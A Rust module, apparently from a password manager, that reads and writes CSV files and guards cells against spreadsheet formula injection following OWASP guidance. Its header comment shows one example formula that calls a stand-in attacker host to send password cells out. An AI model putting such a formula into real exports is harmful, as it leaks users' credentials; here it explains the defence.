//! CSV files whose first line names the columns: the shared reading and writing of the three CSV
//! formats.
//!
//! # Spreadsheet formulas
//!
//! Names, usernames, URLs and even passwords can come from web pages (a page stores a credential
//! with `navigator.credentials.store()`), and a spreadsheet that opens a CSV file runs every cell
//! that starts like a formula: `=HYPERLINK("https://evil.example/?"&D2&D3, "Click")` would send
//! other cells (passwords) away. As [OWASP's CSV injection guidance][owasp] recommends, the
//! writer puts a `'` before every cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return, which spreadsheets show as text, and quotes every cell (so a `;` or `,` never starts a
//! cell in a spreadsheet that splits on it).
//!
//! So that the reader can undo exactly that, the `'` also goes before a cell that starts with one
//! or more `'` and then such a character (`'=x` is written `''=x`), and the reader removes one `'`
//! from exactly those cells: a cell that, after its leading `'`s, starts like a formula. Every
//! value round-trips, whatever it starts with. The price: a value in another tool's file that
//! starts with `'` and then one of those characters loses its first `'` (the import warns with
//! the lines).
//!
//! [owasp]: https://owasp.org/www-community/attacks/CSV_Injection

use std::io::Write;

use csv::{ReaderBuilder, StringRecord, Terminator, WriterBuilder};
use zeroize::Zeroizing;

use super::FormatError;

/// The columns of a CSV file, found by name in its header line.
#[derive(Debug)]
pub(super) struct Header {
    /// For each wanted column, its index in the file, if the file has it.
    index: Vec<Option<usize>>,
}

/// A data row: its line and its fields.
#[derive(Debug)]
pub(super) struct Row<'a> {
    /// The line the row starts on (1-based).
    pub(super) line: u64,
    header: &'a Header,
    record: &'a StringRecord,
}

impl Row<'_> {
    /// The value of wanted column `column` (an index into the `wanted` list given to
    /// [`read`]), `""` when the file has no such column; without the `'` the writer puts before
    /// formula-like values.
    pub(super) fn get(&self, column: usize) -> &str {
        unguard(self.cell(column))
    }

    /// The field of wanted column `column` as the file has it.
    fn cell(&self, column: usize) -> &str {
        self.header
            .index
            .get(column)
            .copied()
            .flatten()
            .and_then(|i| self.record.get(i))
            .unwrap_or("")
    }

    /// Whether [`Row::get`] removes a `'` from any of the row's values.
    fn had_guards(&self) -> bool {
        (0..self.header.index.len()).any(|c| unguard(self.cell(c)).len() != self.cell(c).len())
    }
}

/// The characters a spreadsheet reads as the start of a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether the writer guards `value`: it starts like a formula once its leading `'`s are
/// taken off.
pub(super) fn needs_guard(value: &str) -> bool {
    value.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// The value of a cell: the inverse of what [`write()`] does. A guarded cell starts with `'` and
/// needs a guard itself; no value the writer leaves alone is both.
fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(value) if needs_guard(cell) => value,
        _ => cell,
    }
}

/// Reads a CSV file whose header names the columns, calling `each` on every data row; returns
/// the lines of the rows from which a formula guard (`'`) was removed.
///
/// `wanted` lists the column names the format knows (matched without regard to case or
/// surrounding spaces); the first `required` of them must be in the header. Every row must have
/// as many fields as the header.
pub(super) fn read(
    bytes: &[u8],
    wanted: &[&str],
    required: usize,
    mut each: impl FnMut(&Row<'_>) -> Result<(), FormatError>,
) -> Result<Vec<u64>, FormatError> {
    // Line numbers are counted from byte offsets (the csv reader's own line count lags behind
    // on CRLF files).
    let lines = Lines::new(bytes);
    let csv_error = |e: csv::Error| csv_error(e, &lines);
    let mut reader = ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(bytes);
    let mut record = StringRecord::new();
    if !reader.read_record(&mut record).map_err(csv_error)? {
        return Err(FormatError::at(
            1,
            format!(
                "the file is empty; expected a header line naming the columns {}",
                wanted[..required].join(", ")
            ),
        ));
    }
    let names: Vec<String> = record
        .iter()
        .map(|n| n.trim().trim_start_matches('\u{feff}').to_ascii_lowercase())
        .collect();
    let index: Vec<Option<usize>> = wanted
        .iter()
        .map(|w| names.iter().position(|n| n.eq_ignore_ascii_case(w)))
        .collect();
    if let Some(missing) = wanted[..required]
        .iter()
        .zip(&index)
        .find_map(|(w, i)| i.is_none().then_some(w))
    {
        // The line is not quoted: without a header it is a data row, password and all. Only
        // the names credwell knows are repeated.
        let known: Vec<&str> = wanted
            .iter()
            .zip(&index)
            .filter_map(|(w, i)| i.map(|_| *w))
            .collect();
        let found = if known.is_empty() {
            "none of them a known column: is the header line missing?".to_owned()
        } else {
            format!("the known ones: {}", known.join(","))
        };
        return Err(FormatError::at(
            1,
            format!(
                "the header has no {missing:?} column (expected {}; the first line has {} \
                 fields, {found})",
                wanted.join(","),
                record.len()
            ),
        ));
    }
    let header = Header { index };
    let mut guarded = Vec::new();
    loop {
        match reader.read_record(&mut record) {
            Ok(false) => return Ok(guarded),
            Ok(true) => {
                let line = record.position().map_or(0, |p| lines.of(p.byte()));
                // A blank line is not a row (the csv reader already skips empty lines; a lone
                // field of spaces is still a malformed row, caught by the length check).
                let row = Row {
                    line,
                    header: &header,
                    record: &record,
                };
                if row.had_guards() {
                    guarded.push(line);
                }
                each(&row)?;
            }
            Err(e) => return Err(csv_error(e)),
        }
    }
}

/// Writes `header` and then each row of `rows`, every field quoted, and every value that
/// [needs a guard](needs_guard) behind a `'`.
pub(super) fn write<'a>(
    output: impl Write,
    header: &[&str],
    rows: impl IntoIterator<Item = Vec<&'a str>>,
) -> std::io::Result<()> {
    let mut writer = WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .terminator(Terminator::Any(b'\n'))
        .from_writer(output);
    writer.write_record(header)?;
    for row in rows {
        for value in row {
            if needs_guard(value) {
                // The value may be a password: its copy is wiped.
                let guarded = Zeroizing::new(format!("'{value}"));
                writer.write_field(guarded.as_bytes())?;
            } else {
                writer.write_field(value)?;
            }
        }
        writer.write_record(None::<&[u8]>)?;
    }
    writer.flush()
}

/// A CSV reading error as a [`FormatError`] with its line.
fn csv_error(error: csv::Error, lines: &Lines) -> FormatError {
    let line = error.position().map(|p| lines.of(p.byte()));
    let reason = match error.kind() {
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } => format!("expected {expected_len} fields as in the header, found {len}"),
        csv::ErrorKind::Utf8 { err, .. } => {
            format!("field {} is not valid UTF-8", err.field() + 1)
        }
        csv::ErrorKind::Io(e) => format!("cannot read: {e}"),
        // Other kinds do not arise from reading records; their text could quote a field.
        _ => "not valid CSV".to_owned(),
    };
    FormatError { line, reason }
}

/// The byte offsets at which lines start, to turn a byte offset into a line number.
struct Lines<'a> {
    bytes: &'a [u8],
    starts: Vec<usize>,
}

impl<'a> Lines<'a> {
    fn new(bytes: &'a [u8]) -> Self {
        let starts = std::iter::once(0)
            .chain(
                bytes
                    .iter()
                    .enumerate()
                    .filter(|&(_, &b)| b == b'\n')
                    .map(|(i, _)| i + 1),
            )
            .collect();
        Self { bytes, starts }
    }

    /// The 1-based line of the record that the csv reader says starts at byte `offset` (it
    /// counts the line ending that precedes a record as part of it).
    fn of(&self, offset: u64) -> u64 {
        let mut offset = usize::try_from(offset).unwrap_or(usize::MAX);
        while matches!(self.bytes.get(offset), Some(b'\r' | b'\n')) {
            offset += 1;
        }
        let line = self.starts.partition_point(|&start| start <= offset);
        u64::try_from(line).unwrap_or(u64::MAX)
    }
}
